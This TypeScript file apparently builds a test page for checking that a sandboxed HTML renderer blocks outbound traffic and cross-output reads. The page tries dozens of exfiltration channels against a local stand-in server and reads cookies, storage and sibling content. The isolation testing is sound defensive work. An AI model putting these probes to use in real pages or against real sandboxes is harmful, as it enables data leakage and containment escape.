/**
 * A page that tries everything it can think of to reach the outside, each attempt under a name of its own in the path, and
 * to read what it is not given. What it could do it tells its console, by the names of its attempts; then it tries to leave.
 *
 * @param outside - `http://127.0.0.1:PORT`, where nothing may arrive.
 * @param sibling - The other output's address, as if it had been guessed.
 */
export const hostilePage = (outside: string, sibling: string): string => {
  const ws = outside.replace("http:", "ws:");
  const { port } = new URL(outside);
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>hostile</title>
<link rel="stylesheet" href="${outside}/stylesheet"><link rel="prefetch" href="${outside}/prefetch">
<link rel="preload" as="image" href="${outside}/preload"><link rel="modulepreload" href="${outside}/modulepreload">
<link rel="preconnect" href="${outside}/preconnect"><link rel="dns-prefetch" href="//leak.invalid"><link rel="icon" href="${outside}/icon">
<link rel="manifest" href="${outside}/manifest"><link rel="prerender" href="${outside}/prerender">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${outside}/speculation"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${outside}/speculation2"],"eagerness":"immediate"}]}</script>
<style>@import url("${outside}/import"); @font-face{font-family:x;src:url("${outside}/font")} body{background:url("${outside}/background");font-family:x}</style>
<script src="${outside}/script"></script><script type="module">import("${outside}/module").catch(()=>0)</script>
</head><body>text
<img src="${outside}/img" srcset="${outside}/srcset 2x"><video src="${outside}/video" poster="${outside}/poster" autoplay></video><audio src="${outside}/audio" autoplay></audio>
<iframe src="${outside}/iframe"></iframe><iframe srcdoc="<img src='${outside}/srcdoc'>"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed">
<svg><image href="${outside}/svg-image"/><use href="${outside}/svg-use#x"/></svg>
<form id="f" method="post" action="${outside}/form"><input name="a" value="b"></form><a id="a" href="${outside}/link" ping="${outside}/ping" target="_top">x</a>
<script>
window.got = {};
const tries = [];
const attempt = (name, run) => tries.push(new Promise((yes) => { setTimeout(() => yes("silence"), 3000); try { Promise.resolve(run()).then(yes, () => yes("refused")); } catch { yes("refused"); } }).then((v) => { got[name] = String(v); }));
const O = ${JSON.stringify(outside)};
attempt("fetch", () => fetch(O + "/fetch", { mode: "no-cors" }).then(() => "reached"));
attempt("keepalive", () => fetch(O + "/keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }).then(() => "reached"));
attempt("fetchLater", () => globalThis.fetchLater && fetchLater(O + "/fetch-later", { activateAfter: 0 }));
attempt("beacon", () => navigator.sendBeacon(O + "/beacon", "x"));
attempt("xhr", () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", O + "/xhr"); x.onload = () => yes("reached"); x.onerror = no; x.send(); }));
attempt("events", () => new Promise((yes, no) => { const e = new EventSource(O + "/events"); e.onopen = () => yes("reached"); e.onerror = no; }));
attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("${ws}/socket"); s.onopen = () => yes("reached"); s.onerror = no; }));
attempt("transport", () => new WebTransport("https://127.0.0.1:${port}/transport").ready);
attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + O + "/worker',{mode:'no-cors'}).then(()=>postMessage('reached'),()=>postMessage('refused'))"]))); w.onmessage = (m) => yes(m.data); w.onerror = no; }));
attempt("service", () => navigator.serviceWorker.register("index.html"));
attempt("rtc", async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }, { urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); return "started"; });
attempt("open", () => window.open(O + "/open") === null ? "refused" : "reached");
attempt("form", () => { document.getElementById("f").submit(); return "sent"; });
attempt("link", () => { document.getElementById("a").click(); return "clicked"; });
attempt("top", () => { top.location = O + "/top"; return "reached"; });
attempt("parent", () => parent.document.title);
attempt("image", () => { new Image().src = O + "/image-object"; return "sent"; });
attempt("style", () => { document.body.style.borderImage = "url(" + O + "/css-object)"; return "sent"; });
attempt("storage", () => localStorage.length);
attempt("cookie", () => document.cookie);
attempt("sibling", () => fetch(${JSON.stringify(sibling)} + "index.html").then((r) => r.text()));
attempt("siblingFrame", () => new Promise((yes) => { const f = document.createElement("iframe"); f.src = ${JSON.stringify(sibling)}; f.onload = () => { let t; try { t = f.contentDocument.body.innerHTML; } catch { t = "refused"; } yes(t); }; document.body.append(f); }));
attempt("opener", () => String(window.opener));
attempt("css", () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = O + "/late-style"; document.head.append(l); const c = document.createElement("link"); c.rel = "preconnect"; c.href = O; document.head.append(c); return "sent"; });
// What would end this page comes last: a refresh and a way out by its own address.
Promise.all(tries).then(() => {
  console.debug(JSON.stringify(got));
  const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + O + "/refresh"; document.head.append(m);
  setTimeout(() => { location.href = O + "/self"; }, 300);
});
</script></body></html>`;
};
